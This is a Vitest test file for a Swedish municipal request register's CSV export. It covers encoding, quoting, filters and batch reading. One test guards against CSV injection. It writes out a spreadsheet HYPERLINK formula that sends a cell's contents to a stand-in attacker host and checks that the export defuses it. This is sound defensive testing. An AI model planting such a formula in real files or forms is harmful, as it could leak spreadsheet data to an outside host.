import { readFileSync } from "node:fs";
import { beforeAll, describe, expect, it } from "vitest";
import { streamRegisterRows } from "../../app/models/open-data-feed.server";
import * as registerCsv from "../../app/routes/requests[.]csv";
import * as statisticsCsv from "../../app/routes/statistik[.]csv";
import { headersOf, registerCsvColumns, statisticsCsvColumns, surveyCsvColumns } from "../../app/utils/csv-columns";
import { createTestRequest } from "../factories/request";
import { createTestUser } from "../factories/user";
import { ORIGIN, pageRequest } from "../support/route-request";

/** The register as CSV for Excel, and the one column list that the files and docs/open-data.md share (issue 12, ADR 038). */

async function readCsv(response: Response) {
  const bytes = new Uint8Array(await response.arrayBuffer());
  const text = new TextDecoder("utf-8", { ignoreBOM: true }).decode(bytes);
  return {
    bytes,
    text,
    lines: text
      .replace(/^\uFEFF/, "")
      .trimEnd()
      .split("\r\n"),
  };
}

/** RFC 4180 with semicolons: quoted fields may hold separators, quotes and line breaks. */
function parseCsv(text: string) {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted && c === '"' && text[i + 1] === '"') {
      field += '"';
      i++;
    } else if (quoted && c === '"') {
      quoted = false;
    } else if (quoted) {
      field += c;
    } else if (c === '"') {
      quoted = true;
    } else if (c === ";") {
      row.push(field);
      field = "";
    } else if (c === "\r" && text[i + 1] === "\n") {
      row.push(field);
      rows.push(row);
      row = [];
      field = "";
      i++;
    } else {
      field += c;
    }
  }
  return rows;
}

describe("the register as CSV", () => {
  let named: { number: number };
  beforeAll(async () => {
    const requester = await createTestUser({ name: "Åsa Öberg" });
    named = await createTestRequest({
      title: 'Växtodling; "gröna" tak',
      body: "Rad ett\nrad två",
      requesterUserId: requester.id,
      requesterShownAs: "name",
      targetKommunkoder: ["1490", "1496"],
      tags: ["miljö", "tak"],
    });
    await createTestRequest({
      title: "Anonym förfrågan om skolor",
      requesterShownAs: "anonymous",
      requesterUserId: requester.id,
      targetScope: "all",
    });
    await createTestRequest({ title: "Avvisad förfrågan", status: "rejected" });
  });

  it("UTF-8 with a byte-order mark, semicolons, the documented header, Swedish letters and quoting kept", async () => {
    const response = await registerCsv.loader(pageRequest("/requests.csv"));
    expect(response.status).toBe(200);
    expect(response.headers.get("Content-Type")).toBe("text/csv; charset=utf-8");
    expect(response.headers.get("Content-Disposition")).toBe('attachment; filename="forfragningar.csv"');
    const { bytes, text } = await readCsv(response);
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const [header, ...rows] = parseCsv(text.replace(/^\uFEFF/, ""));
    expect(header).toEqual(headersOf(registerCsvColumns));
    const byTitle = new Map(rows.map((row) => [row[1], Object.fromEntries(header.map((name, i) => [name, row[i]]))]));
    const growing = byTitle.get('Växtodling; "gröna" tak')!;
    expect(growing).toMatchObject({
      Nummer: String(named.number),
      Beskrivning: "Rad ett\nrad två",
      Typ: "data",
      Status: "Öppen, skickad till kommunerna",
      Statuskod: "open",
      Tillfrågade: "Borås, Skövde",
      Kommunkoder: "1490,1496",
      Taggar: "miljö, tak",
      Frågeställare: "Åsa Öberg",
      Adress: `${ORIGIN}/requests/${named.number}`,
    });
    expect(growing.Skapad).toMatch(/^\d{4}-\d{2}-\d{2}T/);
    const anonymous = byTitle.get("Anonym förfrågan om skolor")!;
    expect(anonymous).toMatchObject({ Frågeställare: "", Tillfrågade: "alla kommuner", Kommunkoder: "" });
    // The register's default view: a rejected request only when asked for by status.
    expect(byTitle.has("Avvisad förfrågan")).toBe(false);
    expect(text).not.toMatch(/@/);
  });

  // CSV injection (OWASP): a coordinator opening the file in Excel must not run a requester's formula.
  it("writes a title, body or tag that starts like a formula as text", async () => {
    const formula = await createTestRequest({
      title: '=HYPERLINK("https://evil.example/?d="&A1;"Klicka")',
      body: "+SUM(1;2)",
      tags: ["-1+1", "@x"],
    });
    const [header, ...rows] = parseCsv((await readCsv(await registerCsv.loader(pageRequest("/requests.csv")))).text.replace(/^\uFEFF/, ""));
    const row = rows.find((cells) => cells[0] === String(formula.number))!;
    const cell = Object.fromEntries(header.map((name, i) => [name, row[i]]));
    expect(cell).toMatchObject({
      Titel: `'=HYPERLINK("https://evil.example/?d="&A1;"Klicka")`,
      Beskrivning: "'+SUM(1;2)",
      Taggar: "'-1+1, @x",
    });
  });

  it("carries the register's filter; a wrong filter is a 400 with a message, never a 500", async () => {
    const rejected = await readCsv(await registerCsv.loader(pageRequest("/requests.csv?status=rejected")));
    expect(rejected.lines.slice(1).map((line) => line.split(";")[1])).toEqual(["Avvisad förfrågan"]);
    const borås = await readCsv(await registerCsv.loader(pageRequest("/requests.csv?kommunkod=1490&tag=tak")));
    expect(borås.lines).toHaveLength(2);
    const nobody = await readCsv(await registerCsv.loader(pageRequest("/requests.csv?kommunkod=9999")));
    expect(nobody.lines).toEqual([headersOf(registerCsvColumns).join(";")]);
    for (const query of ["status=pending", "kind=letter", "colour=blue", "q=%00"]) {
      const response = await registerCsv.loader(pageRequest(`/requests.csv?${query}`));
      expect(response.status, query).toBe(400);
      expect(await response.text()).toMatch(/\(.+\)/);
    }
  });

  it("gives each request of a batch its own targets, in name order", async () => {
    const first = await createTestRequest({ title: "Mål ett", targetKommunkoder: ["1496", "1490"] });
    const second = await createTestRequest({ title: "Mål två", targetKommunkoder: ["1480"] });
    const filters = { text: "", statuses: [], kommunkoder: [], kinds: [], tags: [] };
    const targets = new Map<number, string[]>();
    for await (const batch of streamRegisterRows(filters, 1000)) {
      for (const row of batch)
        targets.set(
          row.number,
          row.targets.map((target) => target.name),
        );
    }
    expect(targets.get(first.number)).toEqual(["Borås", "Skövde"]);
    expect(targets.get(second.number)).toEqual(["Göteborg"]);
    expect(targets.get(named.number)).toEqual(["Borås", "Skövde"]);
  });

  it("reads the register a batch at a time without losing or repeating a request", async () => {
    const filters = { text: "", statuses: [], kommunkoder: [], kinds: [], tags: [] };
    const all: number[] = [];
    for await (const batch of streamRegisterRows(filters, 1)) all.push(...batch.map((row) => row.number));
    const once: number[] = [];
    for await (const batch of streamRegisterRows(filters, 1000)) once.push(...batch.map((row) => row.number));
    expect(all).toEqual(once);
    expect(new Set(all).size).toBe(all.length);
    expect(all).toEqual([...all].sort((a, b) => b - a));
  });
});

describe("the CSV files' documented columns", () => {
  it("the statistics file still writes the documented header with a byte-order mark", async () => {
    const { bytes, lines } = await readCsv((await statisticsCsv.loader({ ...pageRequest("/statistik.csv"), params: {} })) as Response);
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(lines[0]).toBe(headersOf(statisticsCsvColumns).join(";"));
  });

  it("docs/open-data.md lists every column of every file, in order", () => {
    const docs = readFileSync(new URL("../../docs/open-data.md", import.meta.url), "utf8");
    for (const columns of [registerCsvColumns, surveyCsvColumns, statisticsCsvColumns]) {
      const positions = columns.map((column) => docs.indexOf(`| ${column.header} | ${column.sv} | ${column.en} |`));
      expect(positions.filter((position) => position < 0)).toEqual([]);
      expect(positions).toEqual([...positions].sort((a, b) => a - b));
    }
  });
});
